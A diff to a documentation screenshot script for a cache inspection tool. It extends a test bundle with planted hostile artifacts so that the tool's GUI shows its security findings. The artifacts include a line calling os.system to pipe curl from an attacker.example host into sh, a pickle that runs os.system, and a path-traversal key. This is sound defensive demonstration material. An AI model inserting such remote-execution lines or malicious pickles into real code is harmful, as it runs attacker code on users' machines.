@@ -3,13 +3,16 @@
 # guide (docs/USER_GUIDE.md): each screenshot is `cachelens-gui ... --screenshot`
 # under Xvfb. The sample cache is copied and its files dated 40 days back, so
 # ages read like a real cache's and the prune preview has something to prune.
-# The bundle views use a bundle exported from it (`cachelens export`) with two
-# hostile artifacts appended by python3: a key climbing out of the cache dir
-# and a pickle that calls os.system. The Redis views start a redis-server of
-# their own on a free loopback port (never saving to disk), push the sample
-# cache to it with `cachelens remote push`, and browse it; for the push view
-# one key then holds another graph and one is deleted, so that the dry run
-# has a conflict and something to set. They are skipped without redis-server.
+# The bundle views use a bundle exported from it (`cachelens export`) with
+# three hostile artifacts appended by python3: a real FX graph entry whose
+# wrapper module has one line replaced in place (same length) by a call to
+# os.system, a pickle that calls os.system, and a key climbing out of the
+# cache dir; the import view selects the first, its finding shown. The Redis
+# views start a redis-server of their own on a free loopback port (never
+# saving to disk), push the sample cache to it with `cachelens remote push`,
+# and browse it; for the push view one key then holds another graph and one
+# is deleted, so that the dry run has a conflict and something to set. They
+# are skipped without redis-server.
 #
 # Usage: docs/make-screenshots.sh [BUILD_DIR]   (default build/default)
 set -euo pipefail
@@ -56,19 +59,27 @@ shot stats --view stats
 shot prune --view prune --max-size 2M
 shot benchmarks --view bench
 
-# Bundles. The hostile artifacts go in as two more sections, and the crc32 of
-# everything after it is written again (formats.md §6).
+# Bundles. The hostile artifacts go in as three more sections, and the crc32
+# of everything after it is written again (formats.md §6).
 "$build/app/cli/cachelens" export "$work/sample-cache" "$forward" -o "$work/model.bin" >/dev/null
-python3 - "$work/model.bin" "$work/untrusted.bin" <<'PY'
-import base64, struct, sys, zlib
+python3 - "$work/model.bin" "$work/untrusted.bin" "$work/sample-cache" "$guarded" <<'PY'
+import base64, glob, struct, sys, zlib
 
 body = open(sys.argv[1], "rb").read()[4:]
+# The guarded graph's entry, its wrapper's first kernel path comment now a call.
+[entry] = glob.glob(f"{sys.argv[3]}/fxgraph/*/{sys.argv[4]}/*")
+wrapper = open(entry, "rb").read()
+start = wrapper.index(b"# kernel path: ", wrapper.index(b"# AOT ID:"))
+end = wrapper.index(b"\n", start)
+call = b"os.system('curl -s https://attacker.example/x | sh')"
+wrapper = wrapper[:start] + call.ljust(end - start) + wrapper[end:]
 def text(s):
     encoded = base64.b64encode(s.encode())
     return struct.pack(">Q", len(encoded)) + encoded
 def section(kind, key, content):
     return text(kind) + struct.pack(">Q", 1) + text(key) + struct.pack(">Q", len(content)) + content
 system = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
+body += section("inductor", sys.argv[4], wrapper)
 body += section("inductor", "f3gunfwvnc2bijojank6na6pplhx6nopcc7cx3stulctblbl4cln", system)
 body += section("autotune", "../../x", b"{}")
 open(sys.argv[2], "wb").write(struct.pack(">I", zlib.crc32(body)) + body)
@@ -85,7 +96,8 @@ bundle_shot() {
 }
 
 bundle_shot bundle-root "$work/untrusted.bin" --select "$forward" --tab overview
-bundle_shot bundle-import "$work/untrusted.bin" --view import --into "$work/import-into"
+bundle_shot bundle-import "$work/untrusted.bin" --view import --into "$work/import-into" \
+    --select "$guarded"
 
 # Redis.
 if ! command -v redis-server >/dev/null || ! command -v redis-cli >/dev/null; then
